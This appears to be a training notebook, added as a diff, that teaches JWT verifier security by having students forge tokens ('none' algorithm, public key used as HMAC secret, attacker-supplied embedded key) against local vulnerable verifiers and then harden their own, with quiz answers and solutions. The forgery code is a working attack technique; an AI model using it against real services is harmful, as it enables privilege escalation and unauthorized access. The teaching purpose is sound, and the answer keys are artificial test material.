@@ -1,0 +1,425 @@
+# ---
+# course:
+#   title: Can anyone get past your verifier?
+#   part: "I: the token"
+#   questions:
+#     - How does one forge a token that a careless verifier believes?
+#     - What gets past a verifier of seven good layers?
+#     - What do the libraries let through?
+#   objectives:
+#     - stage the three classic attacks yourself, and say what stops each
+#     - read the story of a breach and mend the layer that it names
+#     - compare verifiers by what they refuse and by what they accept
+#   minutes: 70
+#   if_short_skip: [05.own_key]
+# ---
+
+# %% [markdown]
+# # 5. Can anyone get past your verifier?
+#
+# Mallory has a viewer's account and would like an editor's. She has time, she has read every advisory, and she needs to
+# be lucky once. In this notebook you are Mallory first, and then you are the one who built the door.
+#
+# All of this happens in the range: with keys made for it, against functions on this computer. Against a service that
+# isn't yours it would be a crime. Against your own it belongs in a test, and at the end of this notebook you have one.
+
+# %% [markdown]
+# {{quiz 05.recall_order}}
+
+# %%
+from course import carry, check, quiz, show, use
+
+quiz("05.recall_order", "b")
+
+# %% [markdown]
+# {{quiz 05.recall_public}}
+
+# %%
+quiz("05.recall_public", "a")
+
+# %% [markdown]
+# ## What Mallory has
+#
+# An honest token of her own, the keys that Grace publishes for everybody, and the two functions with which all tokens
+# are made:
+
+# %%
+import json
+
+from course.judged import published_keys, with_claims
+from simulator.jose import b64url_decode, b64url_encode
+
+keys = published_keys()
+mine = with_claims(sub="mallory", roles=["viewer"])
+header, payload, signature = mine.split(".")
+print(b64url_decode(header).decode())
+print(b64url_decode(payload).decode())
+
+# %% [markdown]
+# What she wants is the same token with `"roles": ["editor"]`. Changing the payload is easy; the signature is what stands
+# in her way:
+
+# %%
+from course.prey import as_pem, asks_for_none, confuses_keys, takes_their_key
+
+
+def make_part(value):
+    """A header or payload as base64url of its JSON."""
+    return b64url_encode(json.dumps(value).encode())
+
+
+def promoted(token):
+    """The claims of a token, with another role."""
+    claims = json.loads(b64url_decode(token.split(".")[1]))
+    return {**claims, "roles": ["editor"]}
+
+
+changed = f"{header}.{make_part(promoted(mine))}.{signature}"
+for verify in [asks_for_none, confuses_keys, takes_their_key]:
+    try:
+        print(verify.__name__, verify(changed, keys)["roles"])
+    except ValueError as no:
+        print(verify.__name__, "refuses:", no)
+
+# %% [markdown]
+# Three verifiers, and all three check signatures. Each was written by somebody who knew that one must. And each has a
+# hole of one line.
+#
+# ## No signature at all
+#
+# The first one reads:
+#
+#     if header["alg"] != "none":
+#         require_signature(published(keys, header["kid"]), header["alg"], octets, signature)
+#
+# The standard has a name for tokens without a signature, `none`, for those who protect them otherwise (RFC 7519 6). The
+# author knew that, and was polite to it.
+#
+# ### Your turn: forge
+#
+# Make a token with the role of an editor that `asks_for_none` accepts. You have one genuine token and no key.
+
+
+# %% exercise="05.none" minutes=5
+def forge_none(token):
+    """An editor's token, made of a viewer's, for `asks_for_none`."""
+    ### BEGIN SOLUTION
+    header = {"alg": "none", "typ": "at+jwt"}
+    return f"{make_part(header)}.{make_part(promoted(token))}."
+    ### END SOLUTION
+
+
+# %%
+check("05.none", forge_none)
+
+# %% [markdown]
+# In 2015 several libraries fell to this very token. Some mended it by refusing `none`, and fell again to `None` and
+# `nOnE`. What stops it is layer 3: a list of what is *allowed*, and it has no `none` on it.
+#
+# ## The public key as a secret
+#
+# The second one holds one key for each name, as the text that stands in a file (PEM), and reads:
+#
+#     if header["alg"] == "HS256":
+#         secret = as_pem(jwk)
+#
+# {{quiz 05.predict_confusion}}
+
+# %%
+quiz("05.predict_confusion", "c")
+
+# %% [markdown]
+# ### Your turn: forge
+#
+# `as_pem(jwk)` gives you the octets of a public key's PEM. `hmac.digest(secret, octets, "sha256")` makes the MAC of
+# notebook 02. The key of your token's `kid` is in `keys["keys"]`.
+
+# %%
+import hmac
+
+
+# %% exercise="05.confusion" minutes=8
+def forge_confusion(token, keys):
+    """An editor's token, made of a viewer's and the public keys, for `confuses_keys`."""
+    header = json.loads(b64url_decode(token.split(".")[0]))
+    jwk = next(jwk for jwk in keys["keys"] if jwk.get("kid") == header["kid"])
+    ### BEGIN SOLUTION
+    text = f"{make_part({**header, 'alg': 'HS256'})}.{make_part(promoted(token))}"
+    mac = hmac.digest(as_pem(jwk), text.encode(), "sha256")
+    return f"{text}.{b64url_encode(mac)}"
+    ### END SOLUTION
+
+
+# %%
+check("05.confusion", forge_confusion)
+
+# %% [markdown]
+# The key is public, so everybody is a mint. Two things stop it: the allow-list (no HS256 among algorithms for key
+# pairs), and a key that knows the one algorithm it is for. The list alone fails on the day on which somebody puts both
+# kinds on it, "for the time of the migration". CVE-2022-29217 (PyJWT) and CVE-2016-5431 (a PHP library) are of this
+# family.
+#
+# ## Bring your own key
+#
+# The third one reads:
+#
+#     jwk = header.get("jwk") or published(keys, header["kid"])
+#
+# The standard does allow a token to carry the public key that belongs to its signature (RFC 7515 4.1.3). It says nothing
+# about believing that key.
+#
+# ### Your turn: forge
+#
+# Mallory has made a key pair. `sign_es256(text)` signs a text with its private half and gives you the octets;
+# `my_jwk` is its public half.
+
+# %%
+from course.judged import public_jwk
+from course.judged import signature as signature_by
+
+my_jwk = public_jwk("mallory", "ES256")
+
+
+def sign_es256(text):
+    """The signature of Mallory's own key."""
+    return signature_by(text, "mallory")
+
+
+# %% exercise="05.own_key" minutes=6
+def forge_own_key(token, my_jwk, sign_es256):
+    """An editor's token, made of a viewer's, with Mallory's key, for `takes_their_key`."""
+    ### BEGIN SOLUTION
+    header = {"alg": "ES256", "typ": "at+jwt", "kid": my_jwk["kid"], "jwk": my_jwk}
+    text = f"{make_part(header)}.{make_part(promoted(token))}"
+    return f"{text}.{b64url_encode(sign_es256(text))}"
+    ### END SOLUTION
+
+
+# %%
+check("05.own_key", forge_own_key)
+
+# %% [markdown]
+# Layer 4 stops it: keys come from the set that you trust. The same holds for `jku` and `x5u` in a header, which are
+# addresses: whoever follows them fetches what Mallory wrote, from where Mallory wants. CVE-2018-0114 (Cisco's
+# node-jose) was this one.
+#
+# ## The range
+#
+# You have staged three. The range has some ninety, each a small function: casings of `none`, spliced signatures,
+# padding, names that are there twice, dates as texts, neighbours' tokens, nesting of a hundred thousand brackets. And
+# it has honest tokens, among them odd ones. A verifier that refuses everything is no good.
+#
+# Keys, names and times are new in each run, and honest and forged tokens come mixed. First, somebody who asks the token
+# for everything:
+
+# %%
+from simulator.attacks import attack_range
+from simulator.attacks.verifiers import COLUMNS
+
+naive = attack_range(COLUMNS["asks the token"], seed=5)
+print(f"forged refused: {naive.forged_refused} of {naive.forged}")
+print(f"honest accepted: {naive.honest_accepted} of {naive.honest}")
+print()
+for breach in naive.breaches[:4]:
+    print(breach.story(), end="\n\n")
+
+# %% [markdown]
+# Each breach is told in three lines: what Mallory had to know, what went in, and which layer was missing.
+#
+# ## Your verifier
+#
+# Now the one that you built in notebook 04. If you got a layer right there, yours is carried over.
+
+# %%
+split = carry("04.split")
+_, _, decode = carry("04.decode")
+allow = carry("04.allow_list")
+choose = carry("04.choose_key")
+check_signature = carry("04.signature")
+check_claims = carry("04.claims")
+check_policy = carry("04.policy")
+
+
+# %%
+def seven_layers(token, keys, *, algorithms, issuer, audience, now, leeway, typ):
+    """The verifier of notebook 04."""
+    header_text, payload_text, signature_text = split(token)
+    header = decode(header_text)
+    allow(header, algorithms)
+    jwk = choose(header, keys)
+    check_signature(jwk, header_text, payload_text, signature_text)
+    claims = decode(payload_text)
+    check_claims(claims, now, leeway)
+    check_policy(header, claims, issuer, audience, typ)
+    return claims
+
+
+# %% [markdown]
+# {{quiz 05.predict_score}}
+
+# %%
+quiz("05.predict_score", "b")
+
+# %%
+first = attack_range(seven_layers, seed=5)
+print(f"forged refused: {first.forged_refused} of {first.forged}")
+print(f"honest accepted: {first.honest_accepted} of {first.honest}")
+print()
+for row in first.breaches + first.turned_away:
+    print(row.story(), end="\n\n")
+
+# %% [markdown]
+# Seven careful layers, and still some got in. None of them is a slip in your code. They are questions that nobody had
+# asked: is the key itself any good? can this name be written down again? is a token honest that lives for fifty
+# thousand years? And one honest token was turned away, since its type is written in full.
+#
+# ### Your turn: until nothing gets past
+#
+# Add what is missing. You need not touch the seven layers: there are two gaps, one before the signature is checked and
+# one after the payload was read. (To refuse is still to raise `Refused(layer, reason)`.)
+#
+# - Weak keys: a secret (`kty` is `oct`, the octets are `k` in base64url) has at least 32 octets, an RSA modulus (`n`)
+#   at least 256 (RFC 7518 3.2, 3.3).
+# - `header["typ"]` may begin with `application/`.
+# - No token lives longer than a year.
+# - A JSON text may hold *half* a character (`"\ud800"`, a lone surrogate). Python reads it, and can't write it:
+#   `json.dumps(claims, ensure_ascii=False).encode()` raises UnicodeEncodeError, which is a ValueError.
+
+# %%
+from course.refused import Refused
+
+YEAR = 366 * 24 * 3600
+
+
+# %% exercise="05.harden" minutes=15
+def verify(token, keys, *, algorithms, issuer, audience, now, leeway, typ):
+    """The claims of a token that is to be believed. Raises Refused for any other."""
+    header_text, payload_text, signature_text = split(token)
+    header = decode(header_text)
+    allow(header, algorithms)
+    jwk = choose(header, keys)
+    ### BEGIN SOLUTION
+    octets = {"oct": ("k", 32), "RSA": ("n", 256)}.get(jwk["kty"])
+    if octets and len(b64url_decode(jwk[octets[0]])) < octets[1]:
+        raise Refused("key", "too weak")
+    header["typ"] = str(header.get("typ")).lower().removeprefix("application/")
+    ### END SOLUTION
+    check_signature(jwk, header_text, payload_text, signature_text)
+    claims = decode(payload_text)
+    check_claims(claims, now, leeway)
+    ### BEGIN SOLUTION
+    if claims["exp"] > now + YEAR:
+        raise Refused("claims", "lives too long")
+    try:
+        json.dumps(claims, ensure_ascii=False).encode()
+    except ValueError:
+        raise Refused("decode", "half a character") from None
+    ### END SOLUTION
+    check_policy(header, claims, issuer, audience, typ)
+    return claims
+
+
+# %%
+check("05.harden", verify)
+
+# %% [markdown]
+# ## Beside the others
+#
+# The same tokens for everybody: three naive verifiers, PyJWT with sloppy options, PyJWT and joserfc as their manuals
+# want them, `simulator.jose` (the hardened version of what you wrote), and yours.
+
+# %%
+from simulator.attacks import compare
+from simulator.views.matrix import matrix
+
+yours = use("05.harden", verify)
+comparison = compare({"yours": yours, **COLUMNS}, seed=5)
+show(matrix(comparison))
+
+# %%
+for name, result in comparison.results.items():
+    forged = f"{result.forged_refused:2} of {result.forged} forged refused"
+    honest = f"{result.honest_accepted:2} of {result.honest} honest accepted"
+    print(f"{name:16}{forged}, {honest}, score {result.score}")
+
+# %% [markdown]
+# Look at the columns of the two libraries. What they let in are no secrets: it is what they leave to those who call
+# them. Here is what PyJWT, well configured, leaves to you:
+
+# %%
+for row in comparison.results["PyJWT"].breaches:
+    print(f"{row.name:28} {row.layer:10} {row.summary}")
+
+# %% [markdown]
+# A library with a hole of one line has thousands of users, and the hole is mended in a day. What it leaves open stays
+# open in each of your programs, until you close it. So write the range's attacks into your tests. For this one the
+# command line is enough, for any verifier that you can import:
+#
+#     python -m simulator attack mypackage.mymodule:verify
+#
+# It ends with status 1 when something got in, so that a build fails.
+#
+# ## At a backend's door
+#
+# Does it matter? In the scenario `attacked` Ada watches, Bo cuts a trailer in the studio, and Mallory, who may do
+# neither, shows one forgery after the other. First with a naive verifier at the door:
+
+# %%
+from simulator import run
+
+open_door = run("attacked", verify=COLUMNS["asks the token"])
+show(open_door.timeline(["bo", "mallory"]))
+open_door.summary()
+
+# %% [markdown]
+# Every blue circle in Mallory's row is a page of the studio that she should never have seen. And now with yours:
+
+# %%
+closed_door = run("attacked", verify=yours)
+show(closed_door.timeline(["bo", "mallory"]))
+closed_door.summary()
+
+# %% [markdown]
+# Ada and Bo noticed nothing, and that is the other half of the job.
+#
+# ## What you saw
+#
+# Most forgeries need no broken mathematics. They need a verifier that asks the token what only the verifier may decide.
+# And a good verifier is not the one without known holes: it is the one that is attacked every day, by its own tests.
+#
+# {{quiz 05.check_none}}
+
+# %%
+quiz("05.check_none", "c")
+
+# %% [markdown]
+# {{quiz 05.check_all}}
+
+# %%
+quiz("05.check_all", "b")
+
+# %% [markdown]
+# {{quiz 05.check_honest}}
+
+# %%
+quiz("05.check_honest", "a")
+
+# %% [markdown]
+# **Key points**
+#
+# - The token decides nothing: not the algorithm, not the key, not where keys are found.
+# - One key, one algorithm. The public half of a pair is not a secret, and must never serve as one.
+# - Weak keys, endless lives and half characters get past good layers, if nobody asks.
+# - A verifier is measured twice: by the forged that it refuses and by the honest that it accepts.
+# - What a library leaves to you, nobody else closes.
+#
+# **Where it is written.** RFC 8725 lists the attacks of this notebook, section 2, and what to do, section 3. Algorithms
+# and keys: RFC 7518 3. `none`: RFC 7519 6. Keys in headers: RFC 7515 4.1.2 to 4.1.6 and 10.
+#
+# **From real life.** One for each family that you staged: the `none` of 2015 (CVE-2015-9235, node's jsonwebtoken), the
+# confused key (CVE-2022-29217, PyJWT), the key that came along (CVE-2018-0114, node-jose).
+
+# %% [markdown] tags=["instructor"]
+# **At the naive verifier's stories** let them say of each which line of code was missing before you show the layer.
+# *Common wrong answers* in `05.confusion`: signing with the JWK's text instead of the PEM, and forgetting the dot. In
+# `05.harden` most forget that an honest token may say `application/at+jwt`; the range tells them.
